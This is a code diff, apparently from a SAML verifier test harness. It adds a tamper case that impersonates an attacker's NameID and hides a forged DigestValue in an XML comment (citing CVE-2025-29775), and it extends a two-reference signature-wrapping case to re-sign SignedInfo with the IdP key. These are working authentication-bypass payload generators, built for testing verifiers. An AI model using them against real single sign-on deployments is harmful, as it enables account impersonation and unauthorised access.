@@ -1,14 +1,18 @@
-import { createHash } from 'node:crypto';
+import { createHash, createSign } from 'node:crypto';
+import type { Element } from '@xmldom/xmldom';
 import { ExclusiveCanonicalization } from 'xml-crypto';
 import { ALGORITHMS, NS } from '../namespaces.ts';
 import { childElements, descendants, firstChild } from '../safe-xml.ts';
 import {
+  assertionsOf,
   forge,
+  impersonate,
   parseGenuine,
   remove,
   replaceText,
   requireSignedAssertion,
   serialize,
+  signatureOf,
   unsignedCopy,
 } from './dom.ts';
 import { type TamperDef, TamperNotApplicable } from './types.ts';
@@ -87,11 +91,65 @@ const DIGEST_HASH: Record<string, string> = {
   'http://www.w3.org/2001/04/xmlenc#sha512': 'sha512',
 };
 
+const SIGNATURE_HASH: Record<string, string> = {
+  [ALGORITHMS['rsa-sha1']]: 'RSA-SHA1',
+  [ALGORITHMS['rsa-sha256']]: 'RSA-SHA256',
+};
+
+/** Exclusive c14n (no comments) of an element, as the enveloped-signature and exc-c14n transforms leave it. */
+function envelopedCanonical(el: Element): string {
+  const copy = unsignedCopy(el);
+  return new ExclusiveCanonicalization().process(copy as never, {}).toString();
+}
+
+function digestOf(el: Element, reference: Element): string {
+  const method = firstChild(reference, NS.ds, 'DigestMethod')?.getAttribute('Algorithm') ?? '';
+  return createHash(DIGEST_HASH[method] ?? 'sha256')
+    .update(envelopedCanonical(el), 'utf8')
+    .digest('base64');
+}
+
+/**
+ * Changed claims (the attacker's NameID) whose digest goes into a comment placed before the genuine
+ * DigestValue text: `<DigestValue><!--forged-->genuine</DigestValue>`. Exclusive c14n drops the
+ * comment, so SignedInfo and its SignatureValue are untouched. A verifier that takes DigestValue from
+ * its first child node (a comment's data is the forged digest, which matches the changed content)
+ * accepts; one that reads the text content compares the genuine digest with the changed content and
+ * rejects. Assertions are handled before the Response, whose digest covers them.
+ */
+export const digestCommentForged: TamperDef = {
+  name: 'digest-comment-forged',
+  title: 'Claims changed; their digest hidden in a comment before the genuine DigestValue',
+  source:
+    'CVE-2025-29775 (xml-crypto, GHSA-x3m8-899r-f7c3: DigestValue read from a comment); W3C XML Signature 1.1, 4.4.3.3 (DigestValue content is base64 text)',
+  needs: 'any',
+  apply(xml, ctx) {
+    const name = 'digest-comment-forged';
+    const g = parseGenuine(xml, name);
+    const signed = [...assertionsOf(g.response), g.response].filter((el) => signatureOf(el));
+    if (signed.length === 0) throw new TamperNotApplicable(name, 'the genuine Response carries no signature');
+    for (const a of assertionsOf(g.response)) impersonate(a, ctx.attackerNameId);
+    for (const el of signed) {
+      const signedInfo = firstChild(signatureOf(el)!, NS.ds, 'SignedInfo');
+      const reference = signedInfo && childElements(signedInfo, NS.ds, 'Reference')[0];
+      const value = reference && firstChild(reference, NS.ds, 'DigestValue');
+      if (!reference || !value) throw new TamperNotApplicable(name, 'a signature has no Reference');
+      const genuineDigest = value.textContent ?? '';
+      const forged = digestOf(el, reference);
+      while (value.firstChild) value.removeChild(value.firstChild);
+      value.appendChild(g.doc.createComment(forged));
+      value.appendChild(g.doc.createTextNode(genuineDigest));
+    }
+    return serialize(g.doc);
+  },
+};
+
 /**
  * R[…, A'(unsigned), A[S']] where S' is the genuine signature with a second Reference (`#A'`, correct
- * digest) appended to its SignedInfo. The SignatureValue no longer matches SignedInfo, and SAML
- * allows exactly one Reference, to the signature's parent: a strict verifier rejects it; one that
- * only checks that the element it reads is referenced with a matching digest accepts A'.
+ * digest) appended to its SignedInfo. SAML allows exactly one Reference, to the signature's parent.
+ * Given the IdP key (ctx.realKey) the SignatureValue is computed again over the new SignedInfo, so
+ * the signature verifies and only that rule stands between A' and the SP; without it the
+ * SignatureValue no longer matches and any verifier refuses.
  */
 export const twoReferences: TamperDef = {
   name: 'two-references',
@@ -109,12 +167,18 @@ export const twoReferences: TamperDef = {
       throw new TamperNotApplicable('two-references', 'the assertion signature has no Reference');
     const second = reference.cloneNode(true) as typeof reference;
     second.setAttribute('URI', `#${evil.getAttribute('ID')}`);
-    const method = firstChild(second, NS.ds, 'DigestMethod')?.getAttribute('Algorithm') ?? '';
-    const hash = DIGEST_HASH[method] ?? 'sha256';
-    const canonical = new ExclusiveCanonicalization().process(evil as never, {}).toString();
     const digestValue = firstChild(second, NS.ds, 'DigestValue');
-    if (digestValue) replaceText(digestValue, createHash(hash).update(canonical, 'utf8').digest('base64'));
+    if (digestValue) replaceText(digestValue, digestOf(evil, second));
     signedInfo.appendChild(second);
+    const signatureValue = firstChild(signature, NS.ds, 'SignatureValue');
+    if (ctx.realKey && signatureValue) {
+      const method = firstChild(signedInfo, NS.ds, 'SignatureMethod')?.getAttribute('Algorithm') ?? '';
+      const canonical = new ExclusiveCanonicalization().process(signedInfo as never, {}).toString();
+      const value = createSign(SIGNATURE_HASH[method] ?? 'RSA-SHA256')
+        .update(canonical, 'utf8')
+        .sign(ctx.realKey.key, 'base64');
+      replaceText(signatureValue, value);
+    }
     return serialize(g.doc);
   },
 };
